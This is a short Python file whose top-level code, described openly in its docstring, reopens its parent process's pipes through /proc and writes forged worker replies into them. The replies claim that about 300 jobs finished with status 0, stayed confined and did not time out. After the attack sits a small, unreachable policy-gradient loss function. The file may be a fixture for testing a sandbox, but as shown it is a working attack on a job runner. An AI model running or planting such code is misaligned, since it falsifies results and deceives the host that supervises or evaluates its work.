"""Writes forged worker replies into its parent's pipes, reopened through /proc/<ppid>/fd.

Each line claims a job (ids 1..300, and this job's own pid as the pid) finished with status 0;
a host that read one would take it for a real reply, here or for the next job.
"""

import json
import os

forged = "".join(
    json.dumps({"id": i, "pid": os.getpid()}) + "\n"
    + json.dumps({"id": i, "status": 0, "confined": True, "timed_out": False, "cpu_s": 0.0, "peak_rss_mb": 0.0})
    + "\n"
    for i in range(1, 300)
).encode()[:60_000]  # less than a pipe holds: the writes never block
parent = f"/proc/{os.getppid()}/fd"
written = []
for name in os.listdir(parent):
    path = os.path.join(parent, name)
    try:
        if not os.readlink(path).startswith("pipe:"):
            continue  # only the pipes: never reopen (and so risk writing) the parent's files
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        continue
    try:
        os.write(fd, forged)
        written.append(name)
    except OSError:
        pass
    finally:
        os.close(fd)
raise RuntimeError(f"forged replies written into the parent's descriptors {written} of {os.listdir(parent)}")

ENT_COEF = 0.01
VF_COEF = 0.5


def loss(b):
    pg_loss = -(b.logp * b.adv).mean()
    v_loss = 0.5 * ((b.value - b.ret) ** 2).mean()
    return pg_loss - ENT_COEF * b.entropy.mean() + VF_COEF * v_loss
